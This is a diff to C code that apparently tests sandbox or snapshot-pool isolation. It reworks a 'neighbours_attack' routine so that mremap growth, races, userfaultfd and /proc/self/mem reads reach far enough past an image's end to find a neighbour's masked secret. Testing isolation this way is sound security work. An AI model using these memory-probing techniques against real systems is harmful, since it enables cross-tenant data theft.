@@ -33,7 +33,8 @@
 #include <unistd.h>
 
 #define NB_PAGE 4096UL
-#define NB_FAR (16UL << 20)
+// How far mappings grow: from the last of the targets beyond the end of the image.
+static unsigned long nb_far = 16UL << 20;
 #define NB_MASK 0xa5
 #define NB_SECRET 32
 // The addresses that the restorer keeps for itself in a clone.
@@ -274,10 +275,10 @@ static void nb_race(const struct nb_mapping *of) {
         pthread_barrier_init(&race.start, NULL, 2);
         pthread_create(&thread, NULL, nb_mover, &race);
         pthread_barrier_wait(&race.start);
-        void *grown = mremap(x, NB_PAGE, NB_FAR, MREMAP_MAYMOVE);
+        void *grown = mremap(x, NB_PAGE, nb_far, MREMAP_MAYMOVE);
         pthread_join(thread, NULL);
         if (nb_image_bytes() > before || page + 200 * NB_PAGE < of->end) return;
-        if (grown != MAP_FAILED) munmap(grown, NB_FAR);
+        if (grown != MAP_FAILED) munmap(grown, nb_far);
     }
 }
 
@@ -320,15 +321,15 @@ static void nb_unmap_others(const struct nb_mapping *but) {
 static void nb_userfault(long at, long bytes) {
     int fd = syscall(SYS_userfaultfd, O_CLOEXEC | UFFD_USER_MODE_ONLY);
     struct uffdio_api api = {.api = UFFD_API, .features = UFFD_FEATURE_MINOR_SHMEM};
-    long grown = nb_own_gate(SYS_mremap, at, bytes, bytes + NB_FAR, MREMAP_MAYMOVE, 0);
+    long grown = nb_own_gate(SYS_mremap, at, bytes, bytes + nb_far, MREMAP_MAYMOVE, 0);
     if (fd < 0 || grown < 0 || ioctl(fd, UFFDIO_API, &api)) return;
-    struct uffdio_register past = {.range = {grown + bytes, NB_FAR},
+    struct uffdio_register past = {.range = {grown + bytes, nb_far},
                                    .mode = UFFDIO_REGISTER_MODE_MISSING | UFFDIO_REGISTER_MODE_MINOR};
     if (ioctl(fd, UFFDIO_REGISTER, &past)) {
         past.mode = UFFDIO_REGISTER_MODE_MISSING;
         ioctl(fd, UFFDIO_REGISTER, &past);
     }
-    for (unsigned long page = 0; page < NB_FAR; page += NB_PAGE) {
+    for (unsigned long page = 0; page < nb_far; page += NB_PAGE) {
         struct uffdio_continue next = {.range = {grown + bytes + page, NB_PAGE}};
         struct uffdio_zeropage zero = {.range = {grown + bytes + page, NB_PAGE}};
         ioctl(fd, UFFDIO_CONTINUE, &next);
@@ -340,15 +341,15 @@ static void nb_userfault(long at, long bytes) {
 // Reads by /proc/self/mem what a grown mapping does not show.
 static void nb_own_memory(long at, long bytes) {
     static unsigned char page[NB_PAGE];
-    long grown = nb_own_gate(SYS_mremap, at, bytes, bytes + NB_FAR, MREMAP_MAYMOVE, 0);
+    long grown = nb_own_gate(SYS_mremap, at, bytes, bytes + nb_far, MREMAP_MAYMOVE, 0);
     int fd = open("/proc/self/mem", O_RDWR | O_CLOEXEC);
     if (fd < 0 || grown < 0) return;
-    for (long to = grown; to < grown + bytes + (long)NB_FAR; to += NB_PAGE)
+    for (long to = grown; to < grown + bytes + (long)nb_far; to += NB_PAGE)
         if (pread(fd, page, NB_PAGE, to) == (ssize_t)NB_PAGE && nb_holds_secret(page, NB_PAGE))
             nb_found->secret_at = to;
     // What is written there must appear in no file: who looks from outside compares.
     memset(page, 0x5a, sizeof page);
-    for (long to = grown; to < grown + bytes + (long)NB_FAR; to += NB_PAGE)
+    for (long to = grown; to < grown + bytes + (long)nb_far; to += NB_PAGE)
         if (pwrite(fd, page, NB_PAGE, to) < 0) break;
     close(fd);
 }
@@ -361,7 +362,7 @@ static void nb_try_file(int fd, const char *what) {
     if (fstat(fd, &found) || !S_ISREG(found.st_mode) || readlink(link, path, sizeof path - 1) < 0) return;
     if (strncmp(path, nb_images, strlen(nb_images)) && (!nb_device || found.st_dev != nb_device)) return;
     nb_report(what);
-    mmap(NULL, found.st_size + NB_FAR, PROT_READ, MAP_SHARED, fd, 0);
+    mmap(NULL, found.st_size + nb_far, PROT_READ, MAP_SHARED, fd, 0);
 }
 
 static void nb_each(const char *directory, int flags, const char *what) {
@@ -468,25 +469,25 @@ static void nb_try_mremap(const struct nb_attempt *attempt, long at, long bytes,
     long half = bytes / 2 / NB_PAGE * NB_PAGE;
     switch (attempt->kind) {
     case NB_PAGE_MORE: call(SYS_mremap, at, bytes, bytes + NB_PAGE, MREMAP_MAYMOVE, 0); break;
-    case NB_GROW: call(SYS_mremap, at, bytes, bytes + NB_FAR, MREMAP_MAYMOVE, 0); break;
+    case NB_GROW: call(SYS_mremap, at, bytes, bytes + nb_far, MREMAP_MAYMOVE, 0); break;
     case NB_GROW_AND_MOVE:
-        call(SYS_mremap, at, bytes, bytes + NB_FAR, MREMAP_MAYMOVE | MREMAP_FIXED, free_at);
+        call(SYS_mremap, at, bytes, bytes + nb_far, MREMAP_MAYMOVE | MREMAP_FIXED, free_at);
         break;
-    case NB_NO_LENGTH: call(SYS_mremap, at, 0, bytes + NB_FAR, MREMAP_MAYMOVE, 0); break;
-    case NB_WRAPPED_LENGTH: call(SYS_mremap, at, -1, bytes + NB_FAR, MREMAP_MAYMOVE, 0); break;
+    case NB_NO_LENGTH: call(SYS_mremap, at, 0, bytes + nb_far, MREMAP_MAYMOVE, 0); break;
+    case NB_WRAPPED_LENGTH: call(SYS_mremap, at, -1, bytes + nb_far, MREMAP_MAYMOVE, 0); break;
     case NB_KEEP:
-        call(SYS_mremap, at, bytes, bytes + NB_FAR, MREMAP_MAYMOVE | MREMAP_DONTUNMAP, 0);
+        call(SYS_mremap, at, bytes, bytes + nb_far, MREMAP_MAYMOVE | MREMAP_DONTUNMAP, 0);
         call(SYS_mremap, at, bytes, bytes, MREMAP_MAYMOVE | MREMAP_DONTUNMAP | MREMAP_FIXED, free_at);
-        call(SYS_mremap, free_at, bytes, bytes + NB_FAR, 0, 0);
+        call(SYS_mremap, free_at, bytes, bytes + nb_far, 0, 0);
         break;
     case NB_MOVE_THEN_GROW:
         call(SYS_mremap, at, bytes, bytes, MREMAP_MAYMOVE | MREMAP_FIXED, free_at);
-        munmap((void *)(free_at + bytes), NB_FAR);
-        call(SYS_mremap, free_at, bytes, bytes + NB_FAR, 0, 0);
+        munmap((void *)(free_at + bytes), nb_far);
+        call(SYS_mremap, free_at, bytes, bytes + nb_far, 0, 0);
         break;
     case NB_SHRINK_THEN_GROW:
         if (half) call(SYS_mremap, at, bytes, half, MREMAP_MAYMOVE, 0);
-        call(SYS_mremap, at, half ? half : bytes, bytes + NB_FAR, MREMAP_MAYMOVE, 0);
+        call(SYS_mremap, at, half ? half : bytes, bytes + nb_far, MREMAP_MAYMOVE, 0);
         break;
     case NB_REMAP: call(SYS_remap_file_pages, at, bytes, 0, attempt->of->offset / NB_PAGE + 512, 0); break;
     }
@@ -495,16 +496,16 @@ static void nb_try_mremap(const struct nb_attempt *attempt, long at, long bytes,
 // With a mapping of the image.
 static void nb_try_target(const struct nb_attempt *attempt) {
     long at = attempt->of->start, bytes = attempt->of->end - attempt->of->start;
-    long free_at = (long)mmap(NULL, bytes + NB_FAR, PROT_NONE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
+    long free_at = (long)mmap(NULL, bytes + nb_far, PROT_NONE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
     pid_t child;
     switch (attempt->kind) {
     case NB_RACE: nb_race(attempt->of); break;
     case NB_ALONE:
         nb_unmap_others(attempt->of);
-        nb_own_gate(SYS_mremap, at, bytes, bytes + NB_FAR, MREMAP_MAYMOVE, 0);
+        nb_own_gate(SYS_mremap, at, bytes, bytes + nb_far, MREMAP_MAYMOVE, 0);
         break;
     case NB_FORKED:
-        nb_own_gate(SYS_mremap, at, bytes, bytes + NB_FAR, MREMAP_MAYMOVE, 0);
+        nb_own_gate(SYS_mremap, at, bytes, bytes + nb_far, MREMAP_MAYMOVE, 0);
         if ((child = fork())) {
             waitpid(child, NULL, 0); // it looks, and this one does not
             _exit(0);
@@ -517,7 +518,7 @@ static void nb_try_target(const struct nb_attempt *attempt) {
         break;
     case NB_DISCARD:
         nb_own_gate(SYS_madvise, at, bytes, MADV_DONTNEED, 0, 0);
-        nb_own_gate(SYS_mremap, at, bytes, bytes + NB_FAR, MREMAP_MAYMOVE, 0);
+        nb_own_gate(SYS_mremap, at, bytes, bytes + nb_far, MREMAP_MAYMOVE, 0);
         break;
     case NB_OWN_MEMORY: nb_own_memory(at, bytes); break;
     case NB_USERFAULT: nb_userfault(at, bytes); break;
@@ -612,6 +613,19 @@ static void nb_learn_own_image(void) {
     }
 }
 
+static void nb_choose_far(const struct nb_mapping *targets, int count) {
+    uint64_t last = 0, end = 0;
+    for (int i = 0; i < count; i++) {
+        uint64_t to = targets[i].offset + targets[i].end - targets[i].start;
+        last = to > last ? to : last;
+    }
+    for (int i = 0, n = nb_mappings(nb_now); i < n; i++) {
+        uint64_t to = nb_now[i].offset + nb_now[i].end - nb_now[i].start;
+        end = nb_now[i].is_image && to > end ? to : end;
+    }
+    if (count && end - last + (1UL << 20) > nb_far) nb_far = end - last + (1UL << 20);
+}
+
 // `images` is the directory of the pool's images, with a slash at its end; `masked` the secret in hexadecimal
 // digits; `preload` what a program that this one executes must load to look around, if it must.
 static void neighbours_attack(const char *images, const char *masked, const char *preload, char *report,
@@ -624,6 +638,7 @@ static void neighbours_attack(const char *images, const char *masked, const char
     if (!nb_unmask(masked)) return;
     nb_learn_own_image();
     int count = nb_targets(targets);
+    nb_choose_far(targets, count);
     for (int kind = 0; kind < NB_KINDS; kind++) {
         int ways = kind <= NB_LAST_WITH_GATES ? 4 : 1;
         // The race needs time.
